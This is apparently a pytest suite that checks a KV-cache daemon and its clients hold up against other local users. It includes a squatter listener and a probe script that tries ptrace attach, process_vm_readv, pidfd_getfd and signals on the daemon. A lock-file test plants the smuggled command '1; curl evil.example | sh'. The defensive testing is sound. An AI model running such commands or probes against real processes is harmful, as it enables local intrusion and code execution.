"""Other users of the host: a client gives KV to nobody who took the place of its daemon, and a
daemon keeps none where another user could take it away. A daemon's files, sockets, ports and
process give them nothing but what docs/guarantees.md says."""

from __future__ import annotations

import asyncio
import contextlib
import fcntl
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

import grpc
import numpy as np
import pytest

import kvwarehouse as kvw
from kvwarehouse import wire
from kvwarehouse.aio.connect import connect_grpc as aio_connect_grpc
from kvwarehouse.client.connect import connect_grpc
from kvwarehouse.client.endpoint import DAEMON_UID_VARIABLE, daemon_uid
from kvwarehouse.wire import warehouse_pb2
from kvwarehouse_bench.harness.pages import check_pages, pages_of
from kvwarehouse_bench.harness.process import free_port
from kvwarehouse_bench.harness.serving import RefusedError, Serving
from testkit.tcp import needs_ipv6

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root can be several users")

STRANGER = 1001

# Its interpreter is read before it becomes somebody else, who may not be able to.
SQUATTER = """
import os, socket, sys
uid, kind, path = int(sys.argv[1]), sys.argv[2], sys.argv[3]
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
if kind == "TCP":
    host, _, port = path.rpartition(":")
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    both = host == "[::]"
    where = (host.strip("[]"), int(port))
    listener = socket.create_server(where, family=family, dualstack_ipv6=both)
else:
    listener = socket.socket(socket.AF_UNIX, getattr(socket, kind))
    listener.bind(path)
    listener.listen()
print("listens", flush=True)
while True:
    print(len(listener.accept()[0].recv(1 << 17)), flush=True)
"""


# Tries each path and each entry of /proc in every way. Says what it was let do, and what it read.
STRANGER_TRIES = """
import contextlib, ctypes, json, os, resource, signal, socket, sys
given = json.loads(sys.argv[1])
uid, pid = given["uid"], given["pid"]
libc = ctypes.CDLL(None, use_errno=True)
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
done, read = [], {}

def attempt(what, where, act):
    try:
        answer = act()
    except OSError:
        return
    done.append([what, where])
    if isinstance(answer, bytes):
        read[where] = answer.decode("latin-1")

def opened(path, flags):
    fd = os.open(path, flags | os.O_NONBLOCK | os.O_CLOEXEC)
    try:
        if flags == os.O_RDONLY:
            return os.read(fd, 1 << 20)
        if path.startswith("/proc/"):  # some entries refuse only then
            os.write(fd, b"0")
    finally:
        os.close(fd)

def connected(path, kind):
    with socket.socket(socket.AF_UNIX, kind) as there:
        there.connect(path)

def called(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")

for path in given["paths"]:
    attempt("read", path, lambda: opened(path, os.O_RDONLY))
    attempt("write", path, lambda: opened(path, os.O_WRONLY))
    attempt("list", path, lambda: repr(os.listdir(path)).encode())
    attempt("make in", path, lambda: os.mkdir(path + "/stranger"))
    attempt("rename", path, lambda: os.rename(path, path + ".stranger"))
    attempt("remove", path, lambda: os.unlink(path))
    attempt("remove", path, lambda: os.rmdir(path))
    attempt("chmod", path, lambda: os.chmod(path, 0o777))
    attempt("touch", path, lambda: os.utime(path))
    attempt("cut", path, lambda: os.truncate(path, 0))
    attempt("mark", path, lambda: os.setxattr(path, "user.stranger", b"1"))
    attempt("link", path, lambda: os.link(path, given["own"] + "/linked"))
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        attempt("connect", path, lambda: connected(path, kind))

for folder, folders, names in os.walk(f"/proc/{pid}", onerror=lambda error: None):
    folders[:] = [name for name in folders if name not in ("net", "map_files")]
    for name in names:
        path = f"{folder}/{name}"
        attempt("read", path, lambda: opened(path, os.O_RDONLY))
        attempt("write", path, lambda: opened(path, os.O_WRONLY))
for name in ("fd", "map_files", "root", "cwd", "ns", "fdinfo"):
    attempt("list", f"/proc/{pid}/{name}", lambda: os.listdir(f"/proc/{pid}/{name}"))

for number in (0, signal.SIGSTOP, signal.SIGCONT, signal.SIGHUP, signal.SIGUSR1, signal.SIGTERM):
    attempt("signal", str(number), lambda: os.kill(pid, number))
attempt("slow", "nice", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
attempt("slow", "affinity", lambda: os.sched_setaffinity(pid, [0]))
attempt("slow", "scheduler", lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
attempt("limit", "files", lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)))
attempt("learn", "limits", lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE))
# Of x86 (asm/unistd_64.h): ptrace's PTRACE_ATTACH, process_vm_readv, ioprio_set, pidfd_getfd
if os.uname().machine == "x86_64":
    text = ctypes.create_string_buffer(8)
    piece = (ctypes.c_size_t * 2)(ctypes.addressof(text), 8)
    there = (ctypes.c_size_t * 2)(given["mapped_at"], 8)
    attempt("trace", "attach", lambda: called(101, 16, pid, 0, 0))
    attempt("trace", "read memory", lambda: called(310, pid, piece, 1, there, 1, 0))
    attempt("slow", "disk", lambda: called(251, 1, pid, 3 << 13))
    with contextlib.suppress(OSError):
        held = os.pidfd_open(pid)
        attempt("take", "descriptor", lambda: called(438, held, 1, 0))
        attempt("signal", "pidfd", lambda: signal.pidfd_send_signal(held, signal.SIGTERM))
print(json.dumps([done, read]))
"""

MODEL = "a-model-that-nobody-may-know"
TOKEN = "a-token-that-nobody-may-know-0123456789"
SPACE = kvw.Namespace(
    model=MODEL, weights="w", dtype="uint8", layout="t/1", page_tokens=1, page_bytes=4096
)
NODES = list(range(2_000_000_001, 2_000_000_005))
# What the kernel shows of a process to its own user alone (proc(5)). Of the rest it shows some to
# everybody: the daemon must say nothing secret there.
OWN_OF_PROC = {
    "auxv", "cwd", "environ", "fd", "fdinfo", "io", "map_files", "maps", "mem", "numa_maps",
    "pagemap", "personality", "root", "smaps", "smaps_rollup", "stack", "syscall",
}  # fmt: skip


@pytest.fixture
def folder() -> Iterator[Path]:
    """Where every user can make files of his own, as /tmp; pytest's folders let nobody in."""
    made = Path(tempfile.mkdtemp(prefix="kvw-test-users-"))
    made.chmod(0o1777)
    yield made
    shutil.rmtree(made)


@contextmanager
def squatter(path: Path | str, kind: str) -> Iterator[subprocess.Popen[str]]:
    """A process of the stranger's that listens there, and tells how many bytes it is sent."""
    command = [sys.executable, "-c", SQUATTER, str(STRANGER), kind, str(path)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        try:
            assert process.stdout.readline() == "listens\n"
            yield process
        finally:
            process.kill()


@pytest.fixture
def serving(tmp_path: Path) -> Iterator[Serving]:
    with Serving(tmp_path) as serving:
        yield serving


def test_client_tells_nothing_to_a_daemon_of_another_user(folder: Path) -> None:
    with squatter(folder / "kvw.sock", "SOCK_SEQPACKET") as process:
        with pytest.raises(kvw.TransportError, match=r"uid 1001.*KVW_DAEMON_UID=1001") as caught:
            kvw.connect(f"unix://{folder}/kvw.sock", timeout_s=60)
        assert caught.value.code == "daemon_untrusted"
        assert process.stdout is not None
        assert process.stdout.readline() == "0\n"


def test_client_speaks_to_a_daemon_of_the_user_that_it_was_told(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(DAEMON_UID_VARIABLE, str(STRANGER))
    with squatter(folder / "kvw.sock", "SOCK_SEQPACKET") as process:
        # It hangs up on us, or holds its tongue: what counts is that it was said hello.
        with pytest.raises(kvw.TransportError) as caught:
            kvw.connect(f"unix://{folder}/kvw.sock", timeout_s=0.1)
        assert caught.value.code != "daemon_untrusted"
        assert process.stdout is not None
        assert int(process.stdout.readline()) > 0


def test_client_tells_nothing_to_a_grpc_socket_of_another_user(folder: Path) -> None:
    with squatter(folder / "kvw.sock.grpc", "SOCK_STREAM"):
        with pytest.raises(kvw.TransportError, match="KVW_DAEMON_UID=1001") as caught:
            connect_grpc(f"unix://{folder}/kvw.sock", timeout_s=60)
        assert caught.value.code == "daemon_untrusted"


@pytest.fixture
def on_loopback(folder: Path, tmp_path: Path) -> Iterator[Serving]:
    """Serves at a port of 127.0.0.1, too."""
    tokens = folder / "tokens"
    tokens.write_text(TOKEN + "\n")
    tokens.chmod(0o600)
    listen = f"127.0.0.1:{free_port()}"
    with Serving(tmp_path, listen=listen, token_file=str(tokens)) as serving:
        yield serving


@contextmanager
def caller(way: str, address: str) -> Iterator[Callable[[], Any]]:
    """A call of a client that is connected, to its daemon's status."""
    with ExitStack() as stack:
        if way == "blocking":
            yield stack.enter_context(connect_grpc(address, token=TOKEN)).status
            return
        runner = stack.enter_context(asyncio.Runner())
        client = runner.run(aio_connect_grpc(address, token=TOKEN))
        stack.callback(lambda: runner.run(client.close()))
        yield lambda: runner.run(client.status())


def check_untold(process: subprocess.Popen[str], at: str) -> None:
    """Whom the stranger hears first is us."""
    host, _, port = at.rpartition(":")
    with socket.create_connection((host.strip("[]"), int(port))) as ours:
        ours.send(b"ours")
        assert process.stdout is not None
        assert process.stdout.readline() == "4\n"


@pytest.mark.parametrize("way", ["blocking", "aio"])
def test_client_tells_nothing_to_who_took_the_other_address_of_localhost(
    on_loopback: Serving, way: str
) -> None:
    """Incident: uid 1001 listened at the daemon's port on [::1], which gRPC tries first, and read
    the token and the pages of a client of `localhost`."""
    needs_ipv6()
    here = on_loopback.settings["listen"]
    port = here.rpartition(":")[2]
    with squatter(f"[::1]:{port}", "TCP") as process:
        with (
            pytest.raises(kvw.TransportError, match=r"uid 1001.*KVW_DAEMON_UID=1001") as caught,
            caller(way, f"localhost:{port}"),
        ):
            pass
        assert caught.value.code == "daemon_untrusted"
        check_untold(process, f"[::1]:{port}")
        with caller(way, here) as status:  # as the error says
            assert status()["state"] == "serving"


@pytest.mark.parametrize("at", ["127.0.0.1", "0.0.0.0", "[::]"])
@pytest.mark.parametrize("way", ["blocking", "aio"])
def test_client_tells_nothing_to_who_took_the_port_of_its_daemon(
    on_loopback: Serving, way: str, at: str
) -> None:
    """Incident: the daemon ended, and gRPC connected again by itself to who took its port."""
    if ":" in at:
        needs_ipv6()
    here = on_loopback.settings["listen"]
    with caller(way, here) as status:
        assert status()["state"] == "serving"
        on_loopback.kill()
        with squatter(f"{at}:{here.rpartition(':')[2]}", "TCP") as process:
            for _ in range(2):
                with pytest.raises(kvw.TransportError, match=r"uid 1001's") as caught:
                    status()
                assert caught.value.code == "daemon_untrusted"
            check_untold(process, here)
        on_loopback.start()
        assert status()["state"] == "serving"


def test_client_speaks_to_a_listener_of_the_user_that_it_was_told(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv(DAEMON_UID_VARIABLE, str(STRANGER))
    at = f"127.0.0.1:{free_port()}"
    with ThreadPoolExecutor(1) as threads:
        with squatter(at, "TCP") as process:
            client = threads.submit(connect_grpc, at, timeout_s=60)
            client.add_done_callback(lambda _: process.kill())  # it said nothing, and will not
            assert process.stdout is not None
            assert int(process.stdout.readline()) > 0
        with pytest.raises(kvw.TransportError) as caught:  # nobody is there any more
            client.result()
    assert caught.value.code != "daemon_untrusted"


@pytest.mark.parametrize("way", ["blocking", "aio"])
def test_client_tells_nothing_to_who_took_the_place_of_its_daemon(
    folder: Path, tmp_path: Path, way: str
) -> None:
    """Incident: gRPC connected again by itself, to the socket of another user."""
    path = folder / "kvw.sock.grpc"

    def refused(call: Any) -> None:
        with pytest.raises(kvw.TransportError, match="belongs to uid 1001") as caught:
            call()
        assert caught.value.code == "daemon_untrusted"

    with Serving(tmp_path, socket=str(folder / "kvw.sock")) as serving, ExitStack() as stack:
        runner = stack.enter_context(asyncio.Runner())
        if way == "aio":
            client: Any = runner.run(aio_connect_grpc(serving.address))
            stack.callback(lambda: runner.run(client.close()))
        else:
            client = stack.enter_context(connect_grpc(serving.address))

        def status() -> Any:
            return runner.run(client.status()) if way == "aio" else client.status()

        status()
        serving.stop()
        with squatter(path, "SOCK_STREAM") as process:
            refused(status)
            with socket.socket(socket.AF_UNIX) as ours:
                ours.connect(str(path))
                ours.send(b"ours")
                assert process.stdout is not None
                assert process.stdout.readline() == "4\n"  # the first that it was told


@pytest.mark.parametrize("name", ["arena", "slots", "index", "control"])
def test_client_maps_no_file_of_another_user(serving: Serving, name: str) -> None:
    [file] = serving.arena_dir.glob(f"{name}*")
    os.chown(file, STRANGER, -1)
    with pytest.raises(kvw.TransportError, match="uid 1001") as caught:
        serving.connect()
    assert caught.value.code == "daemon_untrusted"


@pytest.mark.parametrize("depth", [0, 1])
def test_grpc_socket_is_not_trusted_below_a_folder_of_another_user(
    folder: Path, tmp_path: Path, depth: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    inner = folder / "a" / "b"
    with Serving(tmp_path, socket=str(inner / "kvw.sock")) as serving:
        with serving.connect_remote():
            pass
        os.chown([inner, inner.parent][depth], STRANGER, -1)
        with pytest.raises(kvw.TransportError, match="belongs to uid 1001") as caught:
            serving.connect_remote()
        assert caught.value.code == "daemon_untrusted"
        monkeypatch.setenv(DAEMON_UID_VARIABLE, str(STRANGER))
        with serving.connect_remote():
            pass


def test_grpc_socket_is_not_trusted_in_a_folder_that_others_write_to(serving: Serving) -> None:
    serving.folder.chmod(0o777)
    with pytest.raises(kvw.TransportError, match="mode 0777") as caught:
        serving.connect_remote()
    assert caught.value.code == "daemon_untrusted"
    serving.folder.chmod(0o1777)  # as /tmp: there nobody can replace what is another's
    with serving.connect_remote():
        pass


def test_grpc_socket_is_reached_by_a_link(serving: Serving, folder: Path) -> None:
    (folder / "kvw.sock.grpc").symlink_to(serving.socket + ".grpc")
    with connect_grpc(f"unix://{folder}/kvw.sock"):
        pass


@pytest.mark.parametrize("text", ["me", "-1", "4294967296", "²"])
def test_uid_that_is_none_is_refused(text: str, serving: Serving) -> None:
    with pytest.raises(kvw.UsageError, match="KVW_DAEMON_UID"):
        daemon_uid({DAEMON_UID_VARIABLE: text})


@pytest.mark.parametrize("setting", ["arena_dir", "nvme_dir", "socket"])
def test_daemon_does_not_start_below_a_folder_of_another_user(
    folder: Path, tmp_path: Path, setting: str
) -> None:
    """Incident: uid 1001 renamed the NVMe directory of root's running daemon."""
    theirs = folder / "theirs"
    theirs.mkdir()
    os.chown(theirs, STRANGER, -1)
    where = {"nvme_capacity": "64MiB", setting: str(theirs / "ours" / "it")}
    with (
        pytest.raises(RefusedError, match=f"{theirs} belongs to uid 1001"),
        Serving(tmp_path, **where),
    ):
        pass
    assert list(theirs.iterdir()) == []


def test_daemon_is_told_from_a_lock_that_another_user_holds(folder: Path, tmp_path: Path) -> None:
    """Incident: the text in such a lock became advice, `stop that one (kill 1; curl ...)`."""
    lock = folder / "kvw.sock.lock"
    with lock.open("w") as held:
        held.write("1; curl evil.example | sh")
        os.chown(lock, STRANGER, -1)
        fcntl.flock(held, fcntl.LOCK_EX)
        with (
            pytest.raises(RefusedError, match=f"{lock} belongs to uid 1001") as caught,
            Serving(tmp_path, socket=str(folder / "kvw.sock")),
        ):
            pass
        assert "evil" not in caught.value.text


# --- what a daemon gives to strangers


@pytest.fixture
def exposed(folder: Path) -> Iterator[Serving]:
    """A daemon whose directories lie where every user comes by, with all that may listen."""
    tokens, events = folder / "tokens", folder / "events"
    tokens.write_text(TOKEN + "\n")
    tokens.chmod(0o600)
    serving = Serving(
        folder, nvme_capacity="32MiB", nvme_segment="2MiB", listen="127.0.0.1:0",
        token_file=str(tokens), kv_events=f"ipc://{events}", kv_events_replay=f"ipc://{events}-2",
    )  # fmt: skip
    serving.folder.chmod(0o755)
    # The client stays: its session has a file.
    with serving, serving.connect(timeout_s=60) as client:
        client.open(SPACE).store(NODES, pages_of(NODES, 0, 0, 4096), timeout_s=60)
        assert client.flush(60).pending == 0
        yield serving


def all_paths(serving: Serving, folder: Path) -> list[str]:
    """Of its directories, and what it has open of files."""
    found = [
        path for base in (serving.folder, folder) for path in [base, *base.rglob("*")]
        if path.name != "own"
    ]  # fmt: skip
    opened = [
        Path(f"/proc/{serving.pid}/fd", name) for name in os.listdir(f"/proc/{serving.pid}/fd")
    ]
    return sorted({*map(str, found), *map(str, opened)})


def facts_of(paths: list[str]) -> dict[str, tuple[int, int]]:
    return {
        path: (facts.st_mode, facts.st_uid)
        for path in paths
        if not path.startswith("/proc/")
        for facts in [os.lstat(path)]
    }


def listening(pid: int) -> tuple[set[int], set[str]]:
    """TCP ports that the process listens at, and names of its abstract Unix sockets."""
    inodes = set()
    for name in os.listdir(f"/proc/{pid}/fd"):
        with contextlib.suppress(FileNotFoundError):
            inodes.add(os.readlink(f"/proc/{pid}/fd/{name}").removeprefix("socket:[").rstrip("]"))
    ports = set()
    for table in ("tcp", "tcp6", "udp", "udp6"):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[9] in inodes and fields[3] in ("0A", "07"):
                ports.add(int(fields[1].rpartition(":")[2], 16))
    rows = [line.split() for line in Path(f"/proc/{pid}/net/unix").read_text().splitlines()[1:]]
    return ports, {row[7] for row in rows if row[6] in inodes and row[7:8] and row[7][0] == "@"}


def test_stranger_reads_writes_stops_and_slows_nothing(exposed: Serving, folder: Path) -> None:
    own = folder / "own"
    own.mkdir()
    os.chown(own, STRANGER, STRANGER)
    paths = all_paths(exposed, folder)
    before = facts_of(paths)
    mapped = Path(f"/proc/{exposed.pid}/maps").read_text().split("-")[0]
    given = {
        "uid": STRANGER, "pid": exposed.pid, "paths": paths, "own": str(own),
        "mapped_at": int(mapped, 16),
    }  # fmt: skip
    command = [sys.executable, "-c", STRANGER_TRIES, json.dumps(given)]
    ran = subprocess.run(
        command,
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
        start_new_session=True,  # in one, everybody may continue (SIGCONT) everybody
    )
    done, read = json.loads(ran.stdout)
    beyond = [[what, where] for what, where in done if not is_shown(what, where, exposed, folder)]
    assert beyond == []
    assert len(read) > 3  # what everybody may, it could
    check_tells_nothing(read)
    assert facts_of(paths) == before
    check_serves(exposed)


def is_shown(what: str, where: str, serving: Serving, folder: Path) -> bool:
    """By the kernel, or by folders as these tests made them."""
    if where.startswith("/proc/"):
        parts = {*where.split("/")}
        return what == "read" and not parts & OWN_OF_PROC
    return (what == "list" and where == str(serving.folder)) or where == str(folder)


def check_tells_nothing(read: dict[str, str]) -> None:
    page = pages_of(NODES[:1], 0, 0, 4096)[0].tobytes()[:24].decode("latin-1")
    for secret in (MODEL, TOKEN, page, *map(str, NODES)):
        assert [where for where, text in read.items() if secret in text] == []


def check_serves(serving: Serving) -> None:
    with serving.connect(timeout_s=60) as client:
        out = np.zeros((len(NODES), 4096), np.uint8)
        assert int(client.open(SPACE).load(NODES, out, timeout_s=60)) == len(NODES)
        check_pages(out, NODES, 0, 0)
    assert not serving.events("path_removed")


def test_stranger_is_refused_every_call_and_told_counters_alone(exposed: Serving) -> None:
    """Whose user it is, TCP does not tell; so this needs no other one."""
    ready = exposed.events("ready")[0]
    ports, abstract = listening(exposed.pid)
    assert ports == {int(ready[name].rpartition(":")[2]) for name in ("listen", "http")}
    assert abstract == set()
    said = {}
    for path in ("/metrics", "/healthz", "/readyz"):
        with urllib.request.urlopen(f"http://{ready['http']}{path}", timeout=60) as answer:
            said[path] = answer.read().decode()
    for path in ("/", "/status", "/metrics/../status", "/debug/pprof"):
        with pytest.raises(urllib.error.HTTPError, match="404"):
            urllib.request.urlopen(f"http://{ready['http']}{path}", timeout=60)
    check_tells_nothing(said)
    service = warehouse_pb2.DESCRIPTOR.services_by_name["Warehouse"]
    calls = [f"/{wire.SERVICE_NAME}/{method.name}" for method in service.methods]
    calls += ["/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch", "/no/such",
              "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"]  # fmt: skip
    assert len(calls) > 15
    with grpc.insecure_channel(ready["listen"]) as channel:
        for call in calls:
            for token in (None, "", "x" * len(TOKEN), TOKEN[:-1]):
                metadata = [] if token is None else [("authorization", f"Bearer {token}")]
                with pytest.raises(grpc.RpcError) as caught:
                    list(channel.stream_stream(call)(iter([b""]), metadata=metadata, timeout=60))
                assert caught.value.code() is grpc.StatusCode.UNAUTHENTICATED, call
                check_tells_nothing({call: str(caught.value)})
    check_serves(exposed)
